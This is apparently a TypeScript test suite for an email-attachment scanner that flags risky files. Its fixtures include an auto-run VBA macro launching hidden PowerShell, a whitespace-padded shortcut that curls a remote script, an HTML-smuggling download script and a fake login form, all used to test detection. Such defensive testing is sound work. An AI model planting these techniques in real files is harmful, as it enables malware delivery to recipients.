import assert from 'node:assert/strict'
import { test } from 'node:test'
import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { isoOf, oleOf, shortcutOf, vbaModule, zipOf } from './archives.test-support.ts'
import type { AttachmentFacts, Trait } from './facts.ts'
import { inspectAttachment } from './inspect.ts'

function inspect(
  name: string,
  bytes: Uint8Array | string,
  mimeType = 'application/octet-stream',
): Promise<AttachmentFacts> {
  return inspectAttachment({ name, mimeType, bytes: Buffer.from(bytes as Uint8Array) })
}

function traits({ marks }: AttachmentFacts): readonly Trait[] {
  return [...new Set(marks.map(({ trait }) => trait))].sort()
}

/** A 7z archive of `invoice.vbs`: plain, with encrypted names, with encrypted contents. Made with 7-Zip 23. */
const SEVEN_ZIP =
  'N3q8ryccAATa1Rs1DgAAAAAAAABSAAAAAAAAAA0zbZRXU2NyaXB0LkVjaG8gMQEEBgABCQ4ABwsBAAEBAAwOAAgKAQDGMkwAAAUBERkAaQBuAHYAbwBpAGMAZQAuAHYAYgBzAAAAGQIAABQKAQCcThksQXzdARUGAQAggKSBAAA='
const SEVEN_ZIP_NAMES =
  'N3q8ryccAARnJ6FaoAAAAAAAAAAvAAAAAAAAAGUN99sQHVgZlfPNiQRP5cs05rUCoZ2PmxpkXIyX5XSmeIgptd5OXZkH5xT+LAQgAyDOa3H6s6pXHq6LAt6rIzTWDpkP5qFbWjPGkrqgl1gis95Vnjx19O34wTSExiQf5NguLyWfbOWz8LkqnwVoX81OzMOvnKn070EIcWSYAwoMwUyaj92uOScOSu4ugYCIkbvXOaG4m/qiguDLDiydMX/mpN2MFwYgAQmAgAAHCwEAASQG8QcBElMPz1KOHGIk1QWin41q/DmXNwxyCgGTjcypAAA='
const SEVEN_ZIP_LOCKED =
  'N3q8ryccAAQNrkk9IAAAAAAAAAByAAAAAAAAAKC7FGTV1q55hipFzUQq09SV6/P0XrAM0EAHIsfwCJyr7ENNaAEEBgABCSAABwsBAAIkBvEHARJTDwe38IIcRrG3byuYjGY3+I0hIQEAAQAMEg4ACAoBAMYyTAAABQEZAQARGQBpAG4AdgBvAGkAYwBlAC4AdgBiAHMAAAAZAgAAFAoBAJxOGSxBfN0BFQYBACCApIEAAA=='

test('knows a file by its content, and says where the name claims another', async () => {
  const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)])
  assert.deepEqual(traits(await inspect('report.pdf', program, 'application/pdf')), [
    'active',
    'name-mismatch',
    'type-mismatch',
  ])
  assert.deepEqual(traits(await inspect('report.pdf', '%PDF-1.4\n', 'application/pdf')), [])
  assert.equal((await inspect('a.docx', zipOf([{ name: 'a.txt', bytes: 'x' }]))).marks[0]?.trait, 'name-mismatch')
  assert.equal((await inspect('old.doc', '{\\rtf1 text}')).kind, 'rtf')
})

test('sees what a name hides', async () => {
  const names: Readonly<Record<string, Trait>> = {
    'invoice.pdf.exe': 'double-extension',
    'invoice.pdf          .scr': 'double-extension',
    'scan.pdf.html': 'double-extension',
    'invoice\u202efdp.exe': 'bidi-name',
    'invoice                              .js': 'padded-name',
    'in\u200bvoice.pdf': 'invisible-name',
    [`${'a'.repeat(200)}.pdf`]: 'long-name',
    'invoice.JS ': 'active',
    'disk.vhdx': 'disk-image',
  }
  for (const [name, trait] of Object.entries(names))
    assert.ok(traits(await inspect(name, 'text')).includes(trait), name)
  for (const name of ['archive.tar.gz', 'report v1.2.pdf', 'Brief von Herrn Dr. Meier.txt', '\u0645\u0644\u0641.txt']) {
    assert.deepEqual(traits(await inspect(name, '')), [], name)
  }
})

test('lists a zip archive and looks into its files', async () => {
  const inner = zipOf([{ name: 'run.js', bytes: 'location = "https://a.example/"' }])
  const facts = await inspect('a.zip', zipOf([{ name: 'inner.zip', bytes: inner }]))
  assert.deepEqual(traits(facts), ['nested-archive', 'single-member'])
  const script = facts.inside[0]?.inside[0]
  assert.deepEqual([script?.kind, script?.links[0]?.url], ['script', 'https://a.example/'])
  assert.ok(traits(facts.inside[0] ?? facts).includes('embedded-active-file'))
})

test('tells a locked archive, and that it was not opened', async () => {
  const facts = await inspect('a.zip', zipOf([{ name: 'statement.pdf', bytes: 'x', encrypted: true }]))
  assert.equal(facts.encrypted, true)
  assert.ok(traits(facts).includes('encrypted'))
  assert.match(facts.notAnalysed.join(), /not opened/)
  assert.deepEqual(facts.members, [{ name: 'statement.pdf', sizeBytes: 1, packedBytes: 3, encrypted: true }])
})

test('opens 7z archives, and tells whether names or contents are locked', async () => {
  const open = await inspect('a.7z', Buffer.from(SEVEN_ZIP, 'base64'))
  assert.deepEqual(
    open.inside.map(({ name, kind, text }) => [name, kind, text]),
    [['invoice.vbs', 'script', 'WScript.Echo 1']],
  )
  assert.ok(traits(await inspect('b.7z', Buffer.from(SEVEN_ZIP_NAMES, 'base64'))).includes('names-encrypted'))
  const locked = await inspect('c.7z', Buffer.from(SEVEN_ZIP_LOCKED, 'base64'))
  assert.deepEqual([locked.encrypted, locked.members[0]?.name], [true, 'invoice.vbs'])
})

test('opens a disk image', async () => {
  const facts = await inspect('a.iso', isoOf('INVOICE.JS;1', 'WScript.Echo(1)'))
  assert.deepEqual(traits(facts), ['disk-image', 'embedded-active-file', 'rare-container', 'single-member'])
  assert.equal(facts.inside[0]?.text, 'WScript.Echo(1)')
})

test('does not unpack a bomb', async () => {
  const zip = await inspect('a.zip', zipOf([{ name: 'a.txt', bytes: Buffer.alloc(60_000_000) }]))
  assert.ok(traits(zip).includes('bomb'))
  assert.equal(zip.inside.length, 0)
  const lying = await inspect('a.zip', zipOf([{ name: 'a.txt', bytes: Buffer.alloc(60_000_000), claimedBytes: 100 }]))
  assert.match(lying.notAnalysed.join(), /could not be opened/)
  const gzip = await inspect('a.gz', gzipSync(Buffer.alloc(60_000_000)))
  assert.ok(traits(gzip).includes('bomb'))
})

test('stops at four containers within each other', async () => {
  let bytes: Buffer = Buffer.from('x')
  for (let depth = 0; depth < 8; depth += 1) bytes = zipOf([{ name: depth === 0 ? 'a.txt' : 'a.zip', bytes }])
  let facts: AttachmentFacts | undefined = await inspect('a.zip', bytes)
  let depth = 0
  let reasons = ''
  for (; facts !== undefined; depth += 1) {
    reasons += facts.notAnalysed.join()
    facts = facts.inside[0]
  }
  assert.equal(depth, 4)
  assert.match(reasons, /more than 4 deep/)
})

test('sees two archives in one file, and two names of one member', async () => {
  const two = Buffer.concat([zipOf([{ name: 'a.txt', bytes: 'x' }]), zipOf([{ name: 'b.js', bytes: 'y' }])])
  assert.ok(traits(await inspect('a.zip', two)).includes('directory-mismatch'))
  const named = zipOf([{ name: 'a.txt', localName: 'a.exe', bytes: 'x' }])
  assert.ok(traits(await inspect('a.zip', named)).includes('directory-mismatch'))
})

const CODE =
  'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "powershell -enc x", 0\r\nEnd Sub\r\n'

test('reads macros in old and new documents', async () => {
  const module = Buffer.concat([Buffer.alloc(40, 7), vbaModule(CODE)])
  const project = oleOf({ 'VBA/ThisDocument': module, 'VBA/dir': 'x', 'VBA/_VBA_PROJECT': 'x' })
  const facts = await inspect(
    'a.docm',
    zipOf([
      { name: '[Content_Types].xml', bytes: '' },
      { name: 'word/vbaProject.bin', bytes: project },
    ]),
  )
  assert.deepEqual(traits(facts), ['macro', 'macro-auto-run', 'macro-suspicious'])
  assert.match(facts.marks.map(({ detail }) => detail).join(), /AutoOpen.*PowerShell/)
  const old = await inspect(
    'a.doc',
    oleOf({ WordDocument: Buffer.alloc(5000), 'Macros/VBA': 'x', 'VBA/Module1': module }),
  )
  assert.deepEqual(traits(old), ['macro', 'macro-auto-run', 'macro-suspicious'])
})

test('finds remote templates, packaged files, fields and text in OOXML', async () => {
  const packaged = Buffer.concat([Buffer.alloc(6), Buffer.from('run.exe\u0000C:\\run.exe\u0000')])
  const facts = await inspect(
    'a.docx',
    zipOf([
      { name: '[Content_Types].xml', bytes: '' },
      {
        name: 'word/_rels/settings.xml.rels',
        bytes: '<Relationship Type="x/attachedTemplate" Target="https://t.example/a.dotm" TargetMode="External"/>',
      },
      {
        name: 'word/document.xml',
        bytes: '<w:p><w:t>Enable &amp; read</w:t></w:p><w:instrText>HYPERLINK "https://f.example/"</w:instrText>',
      },
      { name: 'word/embeddings/oleObject1.bin', bytes: oleOf({ '\u0001Ole10Native': packaged }) },
    ]),
  )
  assert.deepEqual(traits(facts), ['embedded-active-file', 'embedded-file', 'embedded-object', 'remote-template'])
  assert.deepEqual(facts.links.map(({ url }) => url).sort(), ['https://f.example/', 'https://t.example/a.dotm'])
  assert.match(facts.text ?? '', /Enable & read/)
})

test('tells an encrypted document and an old macro sheet', async () => {
  const locked = await inspect('a.xlsx', oleOf({ EncryptionInfo: 'x', EncryptedPackage: Buffer.alloc(5000) }))
  assert.deepEqual([locked.encrypted, traits(locked)], [true, ['encrypted']])
  const sheet = Buffer.alloc(5000)
  sheet.writeUInt16LE(0x85, 0)
  sheet.writeUInt16LE(20, 2)
  sheet[8] = 2 // hidden so that the user can't show it
  sheet[9] = 1 // a macro sheet
  sheet.writeUInt16LE(0x0a, 24)
  assert.match(
    (await inspect('a.xls', oleOf({ Workbook: sheet }))).marks.find(({ trait }) => trait === 'xlm-macro')?.detail ?? '',
    /hidden/,
  )
})

test('says what a shortcut starts', async () => {
  const facts = await inspect(
    'a.lnk',
    shortcutOf('..\\Windows\\System32\\cmd.exe', `/c ${' '.repeat(300)}curl https://a.example/x.ps1`),
  )
  assert.deepEqual(traits(facts), ['active', 'obfuscated', 'runs-interpreter', 'runs-program'])
  assert.deepEqual(
    facts.links.map(({ url }) => url),
    ['https://a.example/x.ps1'],
  )
  const internet = await inspect('a.url', '[InternetShortcut]\r\nURL=file://files.example/share/a.lnk\r\n')
  assert.ok(traits(internet).includes('remote-target'))
})

test('finds files within a OneNote section', async () => {
  const content = Buffer.from('<job>WScript.Shell</job>')
  const length = Buffer.alloc(20)
  length.writeBigUInt64LE(BigInt(content.length))
  const section = Buffer.concat([
    Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
    Buffer.alloc(100),
    Buffer.from('open.wsf', 'utf16le'),
    Buffer.alloc(32),
    Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
    length,
    content,
  ])
  const facts = await inspect('a.one', section)
  assert.deepEqual(traits(facts), ['active', 'embedded-active-file', 'embedded-file'])
  assert.equal(facts.inside[0]?.sizeBytes, content.length)
})

test('weighs what a page would do', async () => {
  const smuggler = `<script>var b=atob("UEsDB${'A'.repeat(200)}");var f=new Blob([b]);var a=document.createElement("a");a.href=URL.createObjectURL(f);a.download="x.zip";a.click()</script>`
  assert.deepEqual(traits(await inspect('a.html', smuggler, 'text/html')), ['script', 'smuggling'])
  assert.deepEqual(
    traits(await inspect('a.html', '<form action="https://a.example/"><input type="password"></form>')),
    ['login-form'],
  )
  assert.deepEqual(traits(await inspect('a.html', '<meta http-equiv="refresh" content="0;url=https://a.example/">')), [
    'redirect',
  ])
  assert.deepEqual(traits(await inspect('a.html', '<p>Quarterly <b>report</b></p>')), [])
  assert.deepEqual(traits(await inspect('a.svg', '<svg onload="location=&quot;https://a.example/&quot;"/>')), [
    'redirect',
    'script',
  ])
  assert.deepEqual(traits(await inspect('a.svg', '<svg><animate attributeName="x"/></svg>')), [])
})

test('gives nested messages to the mail parser', async () => {
  const facts = await inspect('a.eml', 'From: a@b.example\r\n\r\nhi', 'message/rfc822')
  assert.deepEqual([facts.kind, facts.messages.length], ['message', 1])
})

test('takes TNEF and Outlook messages apart', async () => {
  const attribute = (level: number, id: number, body: Buffer): Buffer => {
    const head = Buffer.alloc(9)
    head[0] = level
    head.writeUInt32LE(id, 1)
    head.writeUInt32LE(body.length, 5)
    return Buffer.concat([head, body, Buffer.alloc(2)])
  }
  const tnef = Buffer.concat([
    Buffer.from('789f3e220100', 'hex'),
    attribute(2, 0x69002, Buffer.alloc(14)),
    attribute(2, 0x18010, Buffer.from('evil.js\u0000')),
    attribute(2, 0x6800f, Buffer.from('WScript.Echo(1)')),
  ])
  const facts = await inspect('winmail.dat', tnef, 'application/ms-tnef')
  assert.deepEqual(
    facts.inside.map(({ name, kind }) => [name, kind]),
    [['evil.js', 'script']],
  )

  const attach = '__attach_version1.0_#00000000'
  const msg = oleOf({
    '__properties_version1.0': Buffer.alloc(40),
    '__substg1.0_0037001F': Buffer.from('Invoice', 'utf16le'),
    '__substg1.0_1000001F': Buffer.from('See https://a.example/x', 'utf16le'),
    [`${attach}/__substg1.0_3707001F`]: Buffer.from('run.lnk', 'utf16le'),
    [`${attach}/__substg1.0_37010102`]: shortcutOf('a.exe', ''),
  })
  const outlook = await inspect('a.msg', msg)
  assert.deepEqual(
    [outlook.kind, outlook.links[0]?.url, outlook.inside[0]?.kind],
    ['msg', 'https://a.example/x', 'shortcut'],
  )
  assert.match(outlook.text ?? '', /Invoice/)
})

test('gives facts for any bytes under any name, and never throws', async () => {
  const heads = [
    zipOf([
      { name: '[Content_Types].xml', bytes: '' },
      { name: 'word/document.xml', bytes: '<w:t>x</w:t>' },
    ]),
    oleOf({ WordDocument: Buffer.alloc(5000), 'VBA/a': vbaModule(CODE) }),
    oleOf({ '__properties_version1.0': 'x', '__substg1.0_1000001F': 'x' }),
    shortcutOf('a', 'b'),
    isoOf('A.JS;1', 'x'),
    Buffer.from(SEVEN_ZIP, 'base64'),
    Buffer.from('789f3e220100', 'hex'),
    Buffer.from('e4525c7b8cd8a74daeb15378d02996d3e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
    Buffer.from('Rar!\u001a\u0007\u0001\u0000', 'latin1'),
    Buffer.from('{\\rtf1\\objdata '),
    Buffer.from('PK\u0003\u0004', 'latin1'),
  ]
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...heads),
      fc.array(fc.tuple(fc.nat(6000), fc.nat(255)), { maxLength: 30 }),
      fc.uint8Array({ maxLength: 64 }),
      fc.string({ unit: 'binary', maxLength: 20 }),
      async (head, changes, rest, name) => {
        const bytes = Buffer.concat([head, rest])
        for (const [at, value] of changes) bytes[at % bytes.length] = value
        const facts = await inspectAttachment({ name, bytes })
        assert.equal(facts.sizeBytes, bytes.length)
      },
    ),
    { numRuns: 150 },
  )
})
